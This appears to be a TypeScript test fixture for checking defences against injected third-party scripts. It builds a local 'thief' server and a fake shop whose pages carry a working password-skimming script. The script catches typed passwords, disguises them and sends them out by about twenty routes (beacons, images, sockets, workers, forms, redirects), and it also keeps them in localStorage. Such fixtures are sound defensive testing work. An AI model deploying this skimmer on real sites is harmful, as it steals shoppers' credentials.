import { createServer, type IncomingMessage } from 'node:http';
import { text } from 'node:stream/consumers';
import { cleanPage, type SiteHandler } from '../serve.ts';

/** Another site whose script runs in the pages of a shop. It records every request. */
export interface Thief extends AsyncDisposable {
  url: string;
  /** Method, URL and body of every request, and sockets. */
  taken: string[];
}

/** Ways of a script to send data out of a page. Each gets a URL of the other site and the data. */
const ways = `
const ways = {
  fetch: (to) => fetch(to, { mode: 'no-cors' }),
  post: (to, said) => fetch(to, { method: 'POST', mode: 'no-cors', body: said }),
  keepalive: (to, said) => fetch(to, { method: 'POST', mode: 'no-cors', keepalive: true, body: said }),
  beacon: (to, said) => navigator.sendBeacon(to, said),
  request: (to, said) => { const r = new XMLHttpRequest(); r.open('POST', to); r.send(said); },
  picture: (to) => { new Image().src = to; },
  script: (to) => { document.head.append(Object.assign(document.createElement('script'), { src: to })); },
  style: (to) => { document.body.style.backgroundImage = 'url("' + to + '")'; },
  prefetch: (to) => { document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: to })); },
  events: (to) => { new EventSource(to); },
  socket: (to) => { new WebSocket(to.replace('http', 'ws')); },
  frame: (to) => { document.body.append(Object.assign(document.createElement('iframe'), { src: to })); },
  window: (to) => { open(to); open(to, '_blank', 'noopener'); },
  form: (to, said) => {
    const frame = Object.assign(document.createElement('iframe'), { name: 'sink' });
    const form = Object.assign(document.createElement('form'), { method: 'post', action: to, target: 'sink' });
    form.append(Object.assign(document.createElement('input'), { name: 'said', value: said }));
    document.body.append(frame, form);
    form.submit();
  },
  ping: (to) => { const link = Object.assign(document.createElement('a'), { href: '#', ping: to }); document.body.append(link); link.click(); },
  redirect: (to) => fetch('/away?to=' + encodeURIComponent(to), { mode: 'no-cors' }),
  pictureByRedirect: (to) => { new Image().src = '/away?to=' + encodeURIComponent(to); },
  worker: (to) => old.postMessage(to),
  newWorker: (to) => { new Worker(URL.createObjectURL(new Blob([act + 'send(' + JSON.stringify(to) + ')']))); },
  partner: (to) => document.querySelector('iframe').contentWindow.postMessage(to, '*'),
};
const act = "const send = (to) => { fetch(to, { mode: 'no-cors' }); new WebSocket(to.replace('http', 'ws')); };";
let old;
try { old = new Worker(URL.createObjectURL(new Blob([act + 'onmessage = ({ data }) => send(data)']))); } catch { fetch('/tried?noWorker'); }
`;

/** Sends typed passwords in disguise by every way, and stores them for the next page. */
const theft = `
const disguised = (value) => [...value].map((letter) => (letter.codePointAt(0) + 1).toString(36)).join('-');
function steal(value, when) {
  for (const [name, way] of Object.entries(ways)) {
    try { Promise.resolve(way(home + '/' + when + '/' + name + '?' + disguised(value), disguised(value))).catch(() => {}); } catch {}
    if (when === 'typed') fetch('/tried?' + name);
  }
}
addEventListener('input', function noticed({ target }) {
  if (target.type !== 'password' || target.value.length < 8) return;
  removeEventListener('input', noticed);
  localStorage.setItem('kept', btoa(target.value));
  steal(target.value, 'typed');
  setTimeout(() => steal(target.value, 'later'), 100);
  for (const end of ['submit', 'pagehide']) addEventListener(end, () => steal(target.value, end), { once: true });
});
const kept = localStorage.getItem('kept');
if (kept) {
  fetch('/tried?remembered');
  new Image().src = home + '/remembered/picture?' + encodeURIComponent(kept);
  fetch(home + '/remembered/header', { mode: 'cors', headers: { 'x-kept': kept } }).catch(() => {});
}
`;

const scriptOf = (home: string) => `const home = ${JSON.stringify(home)};${ways}${theft}`;

export async function startThief(): Promise<Thief> {
  const taken: string[] = [];
  const write = async (request: IncomingMessage) =>
    void taken.push(`${request.method} ${request.url} ${await text(request)}`);
  const server = createServer((request, response) => {
    void write(request);
    response.setHeader('access-control-allow-origin', '*');
    if (request.url === '/partner') {
      response.setHeader('content-type', 'text/html');
      response.end('<script>onmessage = ({ data }) => { fetch(data); new Image().src = data; };</script>');
    } else if (request.url === '/thief.js') {
      response.setHeader('content-type', 'text/javascript');
      response.end(scriptOf(urlOf()));
    } else response.end('thank you');
  });
  server.on('upgrade', (request, socket) => {
    taken.push(`SOCKET ${request.url}`);
    socket.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  function urlOf(): string {
    const address = server.address();
    if (address === null || typeof address === 'string') throw new Error('no port');
    return `http://127.0.0.1:${address.port}`;
  }
  return {
    url: urlOf(),
    taken,
    async [Symbol.asyncDispose]() {
      server.closeAllConnections();
      await new Promise((resolve) => server.close(resolve));
    },
  };
}

export const shopper = { username: 'kim.shopper@example.com', password: 'robbed-Never-42' };

const field = {
  name: '<label>Email <input type="email" name="user" autocomplete="username"></label>',
  password: '<label>Password <input type="password" name="pass"></label>',
};
const login = (action: string, fields: string, button: string) =>
  `<form method="post" action="${action}">${fields}<button>${button}</button></form>`;
const contact =
  '<form method="post"><h2>Contact us</h2><label>Message <textarea name="message" required></textarea></label><button>Send message</button></form>';

/**
 * A shop whose pages carry the script of another site, and whose server sends anybody anywhere. One that asks for the password
 * on a second page has taken the script into its own pages.
 */
export const robbedShop =
  (thief: string, { twoPages = false } = {}): SiteHandler =>
  async (path, request) => {
    const sent = new URLSearchParams(request.method === 'POST' ? await text(request) : '');
    const isIn = request.headers.cookie?.includes('in=yes') === true;
    const carried = twoPages ? `<script>${scriptOf(thief)}</script>` : `<script src="${thief}/thief.js"></script>`;
    const page = (title: string, body: string) =>
      cleanPage(title, `${body}<iframe src="${thief}/partner" title="Partner"></iframe>${carried}`);
    if (path.startsWith('/away?to=')) return { status: 302, headers: { location: decodeURIComponent(path.slice(9)) } };
    if (path.startsWith('/tried')) return 'noted';
    if (path === '/login' && sent.get('pass') === shopper.password)
      return { status: 303, headers: { location: '/orders', 'set-cookie': 'in=yes; Path=/' } };
    if (path === '/orders' && isIn) return page('Orders', '<p>No orders yet.</p><a href="/orders/old">Old orders</a>');
    if (path === '/orders/old' && isIn) return page('Old orders', contact);
    if (path === '/password') return page('Welcome back', login('/login', field.password, 'Log in'));
    if (path !== '/' && path !== '/login' && !path.startsWith('/orders')) return undefined;
    return twoPages
      ? page('Sign in', login('/password', field.name, 'Next'))
      : page('Sign in', login('/login', field.name + field.password, 'Log in'));
  };
